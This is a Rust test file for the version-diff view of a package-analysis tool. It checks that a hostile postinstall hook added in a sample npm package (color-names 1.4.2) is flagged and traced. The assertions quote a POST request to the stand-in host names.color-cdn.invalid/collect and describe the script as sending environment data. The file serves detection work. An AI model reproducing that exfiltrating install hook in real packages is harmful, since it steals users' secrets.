//! The diff against another version: asked for, walked, folded, followed into the code.

use std::path::{Path, PathBuf};
use std::sync::mpsc::channel;

use cerebro::package::{self, OpenOptions};
use cerebro::tui::view::View;
use cerebro::tui::view::diff::Part;
use crossterm::event::MouseEventKind;

use super::harness::{Bench, Given, judge, message, state};
use cerebro::config::Depth;

fn sample(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("samples").join(name)
}

/// The newer sample, with its real analysis and no model.
fn newer(width: u16, height: u16, against: Option<&Path>) -> Bench {
    let package = package::open(&sample("npm-color-names-1.4.2.tgz"), &OpenOptions::default()).unwrap();
    let mut given = Given::new(package);
    given.load = Box::new(|| Ok(judge(Ok)));
    let mut state = state(width, height, Depth::True);
    state.diff.against = against.map(Path::to_owned);
    let mut bench = Bench::on(state, given);
    bench.settle();
    bench
}

fn compared(width: u16, height: u16) -> Bench {
    let mut bench = newer(width, height, Some(&sample("npm-color-names-1.4.1.tgz")));
    bench.keys("D");
    bench
}

/// The screen without the footer, which tells the keys of every other view as well.
fn snapshot(bench: &Bench) -> String {
    let screen = bench.screen();
    screen.rsplit_once('\n').unwrap().0.trim_end().to_owned()
}

#[rstest::rstest]
#[case(80, 24)]
#[case(200, 60)]
fn looks(#[case] width: u16, #[case] height: u16) {
    let mut bench = compared(width, height);
    insta::assert_snapshot!(format!("diff_{width}x{height}"), snapshot(&bench));
    bench.keys("n tab");
    insta::assert_snapshot!(format!("diff_place_{width}x{height}"), snapshot(&bench));
    bench.keys("tab");
    insta::assert_snapshot!(format!("diff_steps_{width}x{height}"), snapshot(&bench));
}

#[test]
fn the_other_version_is_asked_for_and_compared() {
    let mut bench = newer(120, 40, None);
    bench.keys("D").shows("no other version yet").shows("compare with (archive or folder): ");
    // The folder of this package stands there already.
    bench.text("npm-color-names-1.4.1.tgz").keys("enter");
    bench.shows("Diff 1.4.1 → 1.4.2").shows("names[.]color-cdn[.]invalid");
    assert_eq!(bench.bench.state.view, View::Diff);
    assert!(bench.bench.state.diff.summary().unwrap().starts_with("since 1.4.1: +1 file, 3 changed, new postinstall"));
    bench.keys("c").shows("since 1.4.1: +1 file");
}

#[test]
fn a_verdict_changes_nothing_in_a_comparison_and_one_stays_where_one_is() {
    let (release, wait) = channel::<()>();
    let package = package::open(&sample("npm-color-names-1.4.2.tgz"), &OpenOptions::default()).unwrap();
    let mut given = Given::new(package);
    given.load = Box::new(move || {
        wait.recv().unwrap();
        Ok(judge(|case| Ok(super::case::judged(case, 0.9))))
    });
    let mut state = state(120, 40, Depth::True);
    state.diff.against = Some(sample("npm-color-names-1.4.1.tgz"));
    let mut bench = Bench::on(state, given);
    bench.send(message("D"));
    bench.until(|state| state.diff.found.is_some());
    for key in ["n", "n", "tab", "j", "j"] {
        bench.send(message(key));
    }
    bench.until(|state| state.diff.part == Part::Rows);
    let place = |bench: &Bench| {
        let diff = &bench.bench.state.diff;
        (diff.part, diff.at, diff.found.as_ref().map(|found| std::sync::Arc::as_ptr(&found.diff)))
    };
    let before = place(&bench);
    assert!(before.1[0].0 > 0);
    release.send(()).unwrap();
    bench.settle();
    bench.shows("ALARM risk 90.0 %");
    assert_eq!(place(&bench), before);
}

#[test]
fn what_is_no_package_is_said_and_can_be_asked_for_again() {
    let mut bench = newer(120, 40, Some(&sample("README.md")));
    bench.keys("D").shows("D asks for another version").shows("README.md");
    bench.keys("esc D ctrl-u").text(&sample("npm-color-names-1.4.1.tgz").to_string_lossy()).keys("enter");
    bench.shows("Diff 1.4.1 → 1.4.2");
}

#[test]
fn the_places_are_walked_by_risk_and_lead_to_their_bytes() {
    let mut bench = compared(120, 40);
    bench.keys("n").shows("Place 1 of 4").shows("scripts/prepare-names.js ");
    bench.keys("n").shows("Place 2 of 4").shows("new entry postinstall");
    bench.keys("n n n").shows("This was the last place.");
    bench.keys("N N N N").shows("This is the place of highest risk.");
    // Into the lines of the place, down to the request, and to it in the code.
    bench.keys("tab j j j j j j j j enter");
    let state = &bench.bench.state;
    assert_eq!((state.view, state.viewer.cursor), (View::Code, 9));
    let span = state.viewer.span.unwrap();
    let text = &state.docs.source(state.viewer.doc.unwrap()).unwrap().text[span.start..span.end];
    assert_eq!(text, "const request = https.request('https://names.color-cdn.invalid/collect', { method: 'POST' });");
    bench.keys("(");
    assert_eq!((bench.bench.state.view, bench.bench.state.diff.part), (View::Diff, Part::Rows));
}

#[test]
fn a_line_of_a_place_can_be_marked() {
    let mut bench = compared(120, 40);
    bench.keys("n tab j j j v");
    let state = &bench.bench.state;
    let span = state.selected_span().unwrap();
    let text = &state.docs.source(state.viewer.doc.unwrap()).unwrap().text[span.start..span.end];
    assert_eq!((state.view, text), (View::Code, "const https = require('https');"));
}

#[test]
fn a_call_out_leads_to_what_it_is_about() {
    let mut bench = compared(120, 40);
    // It begins on the line whose place has the highest risk.
    assert_eq!(bench.bench.state.diff.hunk().map(|(index, _)| index), Some(0));
    for (keys, leads) in
        [("enter", "https://names.color-cdn.invalid/collect"), ("( g enter", "node scripts/prepare-names.js")]
    {
        bench.keys(keys);
        let state = &bench.bench.state;
        let span = state.viewer.span.unwrap();
        let text = &state.docs.source(state.viewer.doc.unwrap()).unwrap().text[span.start..span.end];
        assert_eq!(text, leads);
    }
}

#[test]
fn the_copy_keys_say_what_they_copied() {
    let mut bench = compared(80, 24);
    bench.keys("n tab y").shows("Copied the line.");
    bench.keys("Y").shows("Copied the line as it is; nothing in it is hidden.");
    let copied = &bench.bench.screen.copied;
    assert!(copied[0] == copied[1] && !copied[0].contains('\n') && !copied[0].is_empty(), "{copied:?}");
}

#[test]
fn what_is_only_of_another_form_is_folded_and_shown_on_request() {
    let mut bench = compared(120, 40);
    bench.hides("lib/distance.js").shows("1 more of no weight");
    bench.keys("H").shows("lib/distance.js").shows("formatting only");
    bench.keys("H").hides("lib/distance.js");
}

#[test]
fn the_two_sequences_stand_side_by_side() {
    let mut bench = compared(120, 40);
    bench.keys("tab tab").shows("Behaviors 1.4.1 → 1.4.2").shows("+8 -0 >0 =0").shows("send env");
    bench.keys("j enter");
    assert_eq!(bench.bench.state.view, View::Code);
    assert_eq!(bench.bench.state.viewer.cursor, 4, "the import of the network module");
}

#[test]
fn a_removed_line_leads_nowhere() {
    let mut bench = compared(120, 40);
    bench.keys("n n tab g j j enter").shows("Only the old version has this");
    assert_eq!(bench.bench.state.view, View::Diff);
}

#[test]
fn the_mouse_selects_scrolls_and_goes() {
    let mut bench = compared(120, 40);
    let (x, y) = bench.find("lib/names.js:20");
    bench.click(x, y).shows("orange: '#ffa500'");
    let (x, y) = bench.find("orange: '#ffa500'");
    bench.click(x, y);
    assert_eq!(bench.bench.state.diff.part, Part::Rows);
    bench.click(x, y);
    assert_eq!((bench.bench.state.view, bench.bench.state.viewer.cursor), (View::Code, 20));
    let mut bench = compared(80, 24);
    bench.shows("New ─").mouse(MouseEventKind::ScrollDown, 10, 5).hides("New ─");
}

#[test]
fn small_screens_and_resizing_do_no_harm() {
    let mut bench = compared(80, 24);
    for (width, height) in [(1, 1), (10, 4), (40, 10), (200, 60), (80, 24)] {
        bench.resize(width, height).keys("n tab j tab G tab");
    }
    bench.shows("Diff 1.4.1 → 1.4.2");
}
